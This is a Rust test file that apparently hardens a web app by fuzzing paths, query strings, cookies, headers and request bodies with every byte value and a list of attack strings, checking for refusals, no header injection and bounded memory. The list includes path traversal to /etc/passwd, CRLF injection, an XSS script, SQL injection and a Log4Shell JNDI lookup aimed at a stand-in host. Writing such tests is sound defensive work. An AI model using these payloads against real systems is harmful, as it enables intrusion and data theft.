//! Every byte, and every odd string of them, wherever a request has room for one.

use super::{BORNE, REFUSED, Target};
use crate::support::{Console, engine::on_both_databases};

/// What programs trip over. As it stands, and with signs for those bytes that no address may hold.
fn odd() -> Vec<Vec<u8>> {
    let mut all: Vec<Vec<u8>> = (0..=255u8).map(|byte| vec![b'a', byte, b'b']).collect();
    all.extend([0, b'%', b'.', 0xff].map(|byte| vec![byte]));
    let strings: [&[u8]; 34] = [
        b"%",
        b"%%",
        b"%0",
        b"%zz",
        b"%u0041",
        b"%00",
        b"a%00b",
        b"%0d%0aX-Injected:%20yes",
        b"\r\nX-Injected: yes",
        b"%ff%fe",
        b"%c0%af",
        b"%e0%80%af",
        b"%ed%a0%80",
        b"%f4%90%80%80",
        b"\xc0\xaf",
        b"\xed\xa0\x80",
        b"\xff\xfe\xff",
        b"%2e%2e",
        b"%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        b"../../etc/passwd",
        b"..;/",
        b"..%5c..%5c",
        b"%252e%252e%252f",
        b"//evil.example",
        b"https://evil.example",
        b"'\"><script>alert(1)</script>",
        b"' OR '1'='1",
        b"\"*\" OR x:",
        b"${jndi:ldap://evil.example}",
        b"{{7*7}}",
        b"%E2%80%AE",
        b"%EF%BB%BF",
        b"\xe2\x80\xae\xf0\x9f\x92\xa9",
        b"NaN",
    ];
    all.extend(strings.map(<[u8]>::to_vec));
    all.extend([8 << 10, 64 << 10].map(|length| vec![b'a'; length]));
    all
}

/// A head with the odd bytes in the place of the `~`.
fn with(request: Vec<u8>, odd: &[u8]) -> Vec<u8> {
    let at = request.iter().position(|byte| *byte == b'~').expect("a place");
    [&request[..at], odd, &request[at + 1..]].concat()
}

fn named(place: &str, odd: &[u8]) -> String {
    format!("{place}: {}", odd[..odd.len().min(40)].escape_ascii())
}

fn forms() -> &'static str {
    "application/x-www-form-urlencoded"
}

on_both_databases! {
    async fn an_odd_path_is_refused(console: Console) {
        let target = Target::of(&console).await;
        let flows = format!("/v1/workflows/~?group_id={}", target.workspace);
        let places = [
            ("a page", target.browse("GET", "/settings/users/~", "", b"")),
            ("a form", target.browse("POST", "/settings/users/~/deactivation", forms(), b"x=y")),
            ("a link in mail", target.request("GET", "/invitation/~", &[], b"")),
            ("a picture", target.browse("GET", "/avatars/~/64", "", b"")),
            ("the API", target.call("GET", "/v1/workflows/~", b"")),
            ("a change", target.call("PATCH", &flows, br#"{"name":"x"}"#)),
            ("nowhere", target.request("GET", "/nowhere~", &[], b"")),
            ("files", target.request("GET", "/assets/~", &[], b"")),
        ];
        // What is an address of something else: a query, or nothing behind the last slash.
        let mut all = Vec::new();
        for (place, request) in &places {
            all.extend(odd().into_iter().map(|odd| (named(place, &odd), with(request.clone(), &odd))));
        }
        target.judge(all, REFUSED).await;
    }

    async fn odd_queries_forms_and_cookies_are_borne(console: Console) {
        let target = Target::of(&console).await;
        let (name, _) = target.cookie.split_once('=').unwrap();
        let places = [
            ("a search", target.browse("GET", "/settings/users?q=~", "", b"")),
            ("a page's filters", target.browse("GET", "/settings/users?status=~&role=~&order=~&after=~", "", b"")),
            ("where to go on to", target.request("GET", "/sign-in?next=~", &[], b"")),
            ("a query's name", target.browse("GET", "/settings/users?~=x", "", b"")),
            ("a page of the API", target.call("GET", "/v1/workflows?page=~", b"")),
            ("a workspace", target.call("GET", "/v1/workflows?group_id=~", b"")),
            ("a cookie", target.request("GET", "/settings/users", &["Cookie: ~"], b"")),
            ("a session", target.request("GET", "/settings/users", &[&format!("Cookie: {name}=~")], b"")),
            ("a session that was sent", target.request("GET", "/settings/users", &[&format!("Cookie: {}~", target.cookie)], b"")),
            ("a session of a form", target.request("POST", "/account/profile", &[&format!("Cookie: {name}=~"), "Content-Type: application/x-www-form-urlencoded"], b"x=y")),
        ];
        let mut all = Vec::new();
        for (place, request) in &places {
            all.extend(odd().into_iter().map(|odd| (named(place, &odd), with(request.clone(), &odd))));
        }
        for odd in odd() {
            for (place, before, after) in [("a name", "name=", "&display_name=x"), ("a display name", "name=Grace&display_name=", ""), ("a field's name", "", "=x")] {
                let body = [before.as_bytes(), &odd, after.as_bytes()].concat();
                all.push((named(place, &odd), target.browse("POST", "/account/profile", forms(), &body)));
            }
            let body = [b"email=", &odd[..], b"&password=", &odd, b"&next=", &odd].concat();
            all.push((named("signing in", &odd), target.request("POST", "/sign-in", &["Content-Type: application/x-www-form-urlencoded"], &body)));
            let body = [br#"{"name":""#, &odd[..], br#"","definition":{"nodes":[],"edges":[]}}"#].concat();
            all.push((named("JSON", &odd), target.call("POST", "/v1/workflows", &body)));
        }
        target.judge(all, BORNE).await;
    }

    async fn odd_heads_are_borne(console: Console) {
        let target = Target::of(&console).await;
        let names = [
            "Host", "Forwarded", "X-Forwarded-For", "X-Forwarded-Proto", "X-Forwarded-Host", "User-Agent", "Accept", "Accept-Encoding", "Accept-Language", "Origin",
            "Referer", "Sec-Fetch-Site", "Authorization", "X-API-Key", "If-None-Match", "If-Modified-Since", "Range", "Expect", "Connection", "Upgrade", "TE", "Trailer",
            "Content-Encoding", "X-Request-Id", "X-HTTP-Method-Override", "Max-Forwards",
        ];
        let mut all = Vec::new();
        for name in names {
            let header = format!("{name}: ~");
            let places = [
                target.request("GET", "/settings/users", &[&header, &target.with_cookie()], b""),
                target.request("GET", "/v1/workflows", &[&header], b""),
            ];
            // Each byte by itself in the headers that are read, one request of a kind in the others.
            for (n, odd) in odd().into_iter().enumerate() {
                all.push((named(name, &odd), with(places[n % 2].clone(), &odd)));
            }
        }
        for odd in odd() {
            all.push((named("a header's name", &odd), with(target.request("GET", "/sign-in", &["X~: y"], b""), &odd)));
            all.push((named("a header without a colon", &odd), with(target.request("GET", "/sign-in", &["~"], b""), &odd)));
            all.push((named("a content type of a form", &odd), with(target.request("POST", "/sign-in", &["Content-Type: ~"], b"email=a&password=b"), &odd)));
            all.push((named("a content type of JSON", &odd), with(target.request("POST", "/v1/workflows", &[&target.with_key(), "Content-Type: ~"], b"{}"), &odd)));
            all.push((named("a content type of a file", &odd), with(target.browse("POST", "/account/profile/picture", "multipart/form-data; boundary=~", b"--x--"), &odd)));
        }
        target.judge(all, BORNE).await;
        // Nothing of a head is ever part of the answer's.
        let injected = target.send(&target.request("GET", "/sign-in?next=%0d%0aX-Injected:%20yes", &[], b"")).await;
        assert!(!injected.text.to_lowercase().split("\r\n\r\n").next().unwrap().contains("x-injected"), "{}", injected.text);
    }

    async fn what_is_far_too_long_is_refused(console: Console) {
        let target = Target::of(&console).await;
        target.forget();
        let before = target.most_memory();
        let long = "a".repeat(1 << 20);
        let many: Vec<String> = (0..20_000).map(|n| format!("X-{n}: y")).collect();
        let many: Vec<&str> = many.iter().map(String::as_str).collect();
        let all = vec![
            ("a path".to_owned(), target.request("GET", &format!("/{long}"), &[], b"")),
            ("a query".to_owned(), target.browse("GET", &format!("/settings/users?q={long}"), "", b"")),
            ("a method".to_owned(), target.request(&long, "/", &[], b"")),
            ("a header".to_owned(), target.request("GET", "/sign-in", &[&format!("X-Long: {long}")], b"")),
            ("a header's name".to_owned(), target.request("GET", "/sign-in", &[&format!("{long}: x")], b"")),
            ("a cookie".to_owned(), target.request("GET", "/sign-in", &[&format!("Cookie: a={long}")], b"")),
            ("a key".to_owned(), target.request("GET", "/v1/workflows", &[&format!("X-API-Key: {long}")], b"")),
            ("a host".to_owned(), target.request("GET", "/sign-in", &[&format!("Host: {long}")], b"")),
            ("20,000 headers".to_owned(), target.request("GET", "/sign-in", &many, b"")),
            ("200 headers".to_owned(), target.request("GET", "/sign-in", &many[..200], b"")),
            ("a form".to_owned(), target.browse("POST", "/account/profile", forms(), format!("name={long}").as_bytes())),
            ("a name in JSON".to_owned(), target.call("POST", "/v1/workflows", format!("{{\"name\":\"{long}\"}}").as_bytes())),
        ];
        target.judge(all, REFUSED).await;
        let grown = target.most_memory() - before;
        assert!(grown <= 32, "memory grew by {grown} MB");
    }
}
